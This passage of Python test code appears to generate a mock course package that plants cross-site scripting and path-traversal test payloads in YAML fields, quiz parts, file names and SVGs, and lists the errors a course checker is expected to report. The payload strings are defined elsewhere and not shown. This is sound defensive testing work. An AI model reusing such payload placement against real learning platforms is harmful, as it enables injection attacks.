    def wanted(self, payload: Payload, place: Place, path: str | None = None) -> bool:
        """Is ``payload`` to be written in ``place`` of this file (or of ``path``)?"""
        return (payload.name, place, path or self.path) not in self.skip

    def add(self, text: str, payload: Payload | None = None, place: Place | None = None) -> int:
        """Append ``text`` (one or more lines); return its first line (1-based)."""
        first = len(self.lines) + 1
        self.lines.extend(text.split("\n"))
        if payload is not None and place is not None:
            self.spots.append(Spot(payload, place, self.path, first, len(self.lines)))
        return first

    def yaml(
        self,
        key: str,
        payloads: list[Payload],
        prefix: str = "",
        indent: str = "",
        limit: int | None = None,
    ) -> None:
        """``key: "..."``, one payload a line: a double-quoted YAML scalar whose lines are
        joined with spaces, so an error's line names its payload. With a ``limit``, only the
        payloads that fit in that many characters."""
        chosen = [p for p in payloads if self.wanted(p, Place.YAML)]
        if limit is not None:
            fitting: list[Payload] = []
            for payload in chosen:
                if sum(len(prefix + p.text) + 1 for p in [*fitting, payload]) <= limit:
                    fitting.append(payload)
            chosen = fitting
        if not chosen:
            self.add(f'{indent}{key}: "plain text"')
            return
        for index, payload in enumerate(chosen):
            body = json.dumps(prefix + payload.text)[1:-1]
            start = f'{indent}{key}: "' if index == 0 else f"{indent}  "
            end = '"' if index == len(chosen) - 1 else ""
            self.add(start + body + end, payload, Place.YAML)

    def text(self) -> str:
        return "\n".join(self.lines) + "\n"


# Every title (course, track, module, lesson) is at most 200 characters (SCORM 2004 caps
# package titles there): titles hold the payloads that fit; every other YAML value holds them all.
TITLE_LIMIT = 200


def _course_yml(out: _Lines, values: list[Payload]) -> None:
    out.add('id: xss\norganisation: BWISE\nrun: "2026"\nversion: "1.0"')
    out.yaml("title", YAML_ONLY + values, limit=TITLE_LIMIT)
    out.yaml("description", values)
    out.add("languages: [en, de]\nmissing_translations: fallback\nlicence: CC-BY-SA-4.0")
    out.add("tracks:\n  - id: workers")
    out.yaml("title", values, indent="    ", limit=TITLE_LIMIT)
    out.yaml("description", values, indent="    ")
    out.add("authors:")
    for payload in values[:12]:
        if out.wanted(payload, Place.YAML):
            out.add(f"  - name: {json.dumps(payload.text)}", payload, Place.YAML)
    out.add("  - name: Test Author\nkeywords:")
    for payload in values:
        if out.wanted(payload, Place.YAML):
            out.add(f"  - {json.dumps(payload.text)}", payload, Place.YAML)
    out.add("image: media/course.png")
    out.yaml("image_alt", values)


def _course_de_yml(out: _Lines, values: list[Payload]) -> None:
    out.yaml("title", YAML_ONLY + values, "DE ", limit=TITLE_LIMIT)
    out.yaml("description", values, "DE ")
    out.add("tracks:\n  - id: workers")
    out.yaml("title", values, "DE ", indent="    ", limit=TITLE_LIMIT)
    out.yaml("image_alt", values, "DE ")


def _module_yml(out: _Lines, values: list[Payload], prefix: str = "") -> None:
    out.yaml("title", values[::-1], prefix, limit=TITLE_LIMIT)
    out.yaml("summary", values, prefix)
    if not prefix:
        out.add("track: workers\nestimated_minutes: 60")
    out.add("outcomes:\n  - {id: o1, text: Do the first thing.}")
    for index, payload in enumerate(values, 2):
        if out.wanted(payload, Place.YAML):
            line = f"  - {{id: o{index}, text: {json.dumps(prefix + payload.text)}}}"
            out.add(line, payload, Place.YAML)


def _front(out: _Lines, values: list[Payload], prefix: str = "") -> None:
    out.add("---")
    out.yaml("title", values[::-1], prefix, limit=TITLE_LIMIT)
    out.add("estimated_minutes: 10\noutcomes: [o1]")
    out.yaml("summary", values, prefix)
    out.add("---\n")


def _lesson_text(out: _Lines, values: list[Payload], prefix: str = "") -> None:
    _front(out, values, prefix)
    for payload in sanitised(Place.LESSON):
        if out.wanted(payload, Place.LESSON):
            out.add(payload.text, payload, Place.LESSON)
            out.add("")


def _part(out: _Lines, template: str, payload: Payload, place: Place, plain: str) -> None:
    if out.wanted(payload, place):
        out.add(template.format(payload.text), payload, place)
    else:
        out.add(template.format(plain))


def _question(out: _Lines, qid: str, payload: Payload) -> None:
    """One single-choice question with ``payload`` in every part."""
    _part(out, "### Question: {} {{#" + qid + "}}\n", payload, Place.PROMPT, "Which one?")
    _part(out, "{}\n", payload, Place.PROMPT, "Pick one.")
    _part(out, "- (x) {} (choice)", payload, Place.CHOICE, "Right")
    _part(out, "  > {}", payload, Place.CHOICE_FEEDBACK, "Yes.")
    out.add("- ( ) Plain choice")
    _part(out, "  > {}\n", payload, Place.CHOICE_FEEDBACK, "No.")
    _part(out, "> {}\n", payload, Place.FEEDBACK, "Because.")
    _part(out, "Hint: {}\n", payload, Place.HINT, "Think.")


def _quiz_lesson(out: _Lines, values: list[Payload]) -> None:
    """An assessment (the first payloads, and a question of every other type) and a knowledge
    check: one question per payload, with the payload in each of its parts."""
    _front(out, values[:3])
    parts = sanitised(Place.CHOICE)
    out.add("::: assessment")
    for index, payload in enumerate(parts[:8], 1):
        _question(out, f"a{index}", payload)
    out.add("### How many? {#how-many}\n\n- number: 2")
    _part(out, "  > {}\n", parts[8], Place.CHOICE_FEEDBACK, "Two.")
    out.add("### True? {#true-false}\n\n- answer: true\n")
    _part(out, "> {}\n", parts[9], Place.FEEDBACK, "True.")
    out.add("### Pick all {#pick-all}\n")
    for payload in parts[10:16]:
        _part(out, "- [x] {} (choice)", payload, Place.CHOICE, "Right")
    out.add("- [ ] Plain choice\n\n### Type it {#type-it}\n")
    for payload in sanitised(Place.ACCEPT):
        if out.wanted(payload, Place.ACCEPT):
            out.add(f"- accept: {payload.text}", payload, Place.ACCEPT)
    out.add(":::\n\n::: quiz")
    for index, payload in enumerate(parts[8:], 1):
        _question(out, f"k{index}", payload)
    for index, payload in enumerate(sanitised(Place.PROMPT), 1):
        if payload.single_line or not out.wanted(payload, Place.PROMPT):
            continue
        out.add(f"### A long prompt {{#m{index}}}\n")
        out.add(payload.text + "\n", payload, Place.PROMPT)
        out.add("- (x) Yes\n- ( ) No\n")
    out.add(":::")


def linked_path(payload: Payload) -> str:
    """Where a linked file is, in the module folder (SVG payloads go to ``files/``)."""
    return payload.file if "/" in payload.file else f"files/{payload.file}"


def destination(name: str) -> str:
    """A Markdown link destination for ``name``: '%', '#' and spaces encoded (the query and
    fragment of a linked file's payload stay), everything else as written."""
    return name.replace("%", "%25").replace("&", "%26").replace(" ", "%20").replace("#", "%23")


def _file_link(name: str) -> str:
    """A picture shown, or a handout linked, by its file name."""
    if name.startswith("media/"):
        return f"![A small square]({destination(name)})\n"
    return f"[A handout](./{destination(name)})\n"


def _files_lesson(out: _Lines, values: list[Payload]) -> dict[str, str | bytes]:
    """Links to files and pictures; returns the files."""
    _front(out, values[:3])
    files: dict[str, str | bytes] = {}
    for payload in sanitised(Place.FILE_NAME):
        path = f"{MODULE}/{payload.text}"  # a bad name is reported at the file itself
        if out.wanted(payload, Place.FILE_NAME) and out.wanted(payload, Place.FILE_NAME, path):
            files[payload.text] = PNG if payload.text.endswith(".png") else PDF
            out.add(_file_link(payload.text), payload, Place.FILE_NAME)
            out.spots.append(Spot(payload, Place.FILE_NAME, path, 1, 1))
    for payload in sanitised(Place.LINKED_FILE):
        if out.wanted(payload, Place.LINKED_FILE):
            files[linked_path(payload)] = payload.text
            line = f"[A file]({destination(linked_path(payload))})\n"
            out.add(line, payload, Place.LINKED_FILE)
    for payload in sanitised(Place.EMBEDDED_SVG):
        if out.wanted(payload, Place.EMBEDDED_SVG):
            files[f"media/{payload.file}"] = payload.text
            out.add(f"![A small diagram](media/{payload.file})\n", payload, Place.EMBEDDED_SVG)
    return files


def sanitised_course(skip: Skip = frozenset()) -> tuple[dict[str, str | bytes], list[Spot]]:
    """Every SANITISED payload in every place it goes, but those in ``skip``: one module of
    three lessons, in English and German (the translation holds the YAML payloads again, and
    the lesson text); returns the files and where each payload is."""
    spots: list[Spot] = []
    values = sanitised(Place.YAML)
    files: dict[str, str | bytes] = {
        "course/media/course.png": PNG,
        f"{MODULE}/media/pixel.png": PNG,
    }

    sources: list[_Lines] = []

    def write(path: str) -> _Lines:
        sources.append(_Lines(path, spots, skip))
        return sources[-1]

    _course_yml(write("course/course.yml"), values)
    _course_de_yml(write("course/course.de.yml"), values)
    _module_yml(write(f"{MODULE}/module.yml"), values)
    _module_yml(write(f"{MODULE}/module.de.yml"), values, "DE ")
    _lesson_text(write(f"{MODULE}/01-text.md"), values)
    _lesson_text(write(f"{MODULE}/01-text.de.md"), values, "DE ")
    _quiz_lesson(write(f"{MODULE}/02-quiz.md"), values)
    out = write(f"{MODULE}/03-files.md")
    files.update({f"{MODULE}/{name}": data for name, data in _files_lesson(out, values).items()})
    files.update({source.path: source.text() for source in sources})
    return files, spots


@dataclass(frozen=True)
class Expected:
    """A REFUSED payload in one place: the error ``bwise-mooc check`` must report."""

    payload: Payload
    place: Place
    path: str
    line: int  # 1-based
    codes: tuple[str, ...]


QUIZ_TEMPLATES = {  # a question with the payload in one part, and the line that holds it
    Place.PROMPT: ("### Pick one: {text} {{#q{n}}}\n\n- (x) yes\n- ( ) no", 0),
    Place.CHOICE: ("### Pick one {{#q{n}}}\n\n- (x) {text}\n- ( ) no", 2),
    Place.CHOICE_FEEDBACK: ("### Pick one {{#q{n}}}\n\n- (x) yes\n  > {text}\n- ( ) no", 3),
    Place.FEEDBACK: ("### Pick one {{#q{n}}}\n\n- (x) yes\n- ( ) no\n\n> {text}", 5),
    Place.HINT: ("### Pick one {{#q{n}}}\n\n- (x) yes\n- ( ) no\n\nHint: {text}", 5),
    Place.NUMBER: ("### How many {{#q{n}}}\n\n- number: {text}", 2),
}


def refused_course() -> tuple[dict[str, str | bytes], list[Expected]]:
    """Every REFUSED payload, each at a known line, and the errors expected for them. A
    payload refused as a whole file (a control character) gets a lesson of its own."""
    spots: list[Spot] = []
    files: dict[str, str | bytes] = {
        "course/course.yml": COURSE_YML,
        f"{MODULE}/module.yml": MODULE_YML,
        f"{MODULE}/media/pixel.png": PNG,
    }
    text = _Lines(f"{MODULE}/01-text.md", spots)
    alone = _Lines(f"{MODULE}/04-alone.md", spots)
    for out in (text, alone):
        out.add(FRONT)
    for payload in refused(Place.LESSON):
        out = alone if payload.refused[0].startswith("file.") else text
        out.add(payload.text + "\n", payload, Place.LESSON)
    quiz = _Lines(f"{MODULE}/02-quiz.md", spots)
    quiz.add(FRONT)
    for place, (template, offset) in QUIZ_TEMPLATES.items():
        for payload in refused(place):
            if payload.single_line:
                block = template.format(text=payload.text, n=len(quiz.lines))
                first = quiz.add("::: quiz\n" + block + "\n:::\n") + 1 + offset
                spots.append(Spot(payload, place, quiz.path, first, first))
    links = _Lines(f"{MODULE}/03-files.md", spots)
    links.add(FRONT)
    for payload in refused(Place.LINKED_FILE):
        path = linked_path(payload)  # its query or fragment stays in the link
        files[f"{MODULE}/{path.split('?')[0].split('#')[0]}"] = payload.text
        links.add(f"[A file]({path.replace(' ', '%20')})\n", payload, Place.LINKED_FILE)
    for payload in refused(Place.EMBEDDED_SVG):
        files[f"{MODULE}/media/{payload.file}"] = payload.text
        links.add(f"![A small diagram](media/{payload.file})\n", payload, Place.EMBEDDED_SVG)
    for payload in refused(Place.FILE_NAME):
        path = posixpath.normpath(f"{MODULE}/{payload.text}")
        if path.endswith(".md"):  # a lesson, or a module folder (its lesson is not read)
            files[path] = FRONT + "Some text.\n"
            where = path.rsplit("/", 1)[0] if payload.text.startswith("../") else path
        else:
            files[path] = PNG if path.endswith(".png") else PDF
            links.add(_file_link(payload.text))
            where = path
        spots.append(Spot(payload, Place.FILE_NAME, where, 1, 1))
    files.update({out.path: out.text() for out in (text, alone, quiz, links)})
    expected = [
        Expected(s.payload, s.place, s.path, s.first + s.payload.line, s.payload.codes(s.place))
        for s in spots
    ]
    return files, expected
